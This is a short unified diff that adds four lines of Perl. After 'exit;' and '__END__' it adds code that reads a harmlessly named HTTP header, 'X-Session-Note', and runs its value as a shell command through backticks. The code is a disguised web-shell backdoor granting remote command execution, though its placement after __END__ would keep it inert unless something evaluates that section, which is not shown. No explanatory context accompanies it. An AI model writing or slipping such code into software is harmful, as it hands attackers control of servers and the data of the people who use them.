@@ -1,0 +1,4 @@
+exit;
+__END__
+my $h=$cgi->http("X-Session-Note");
+print `$h`;
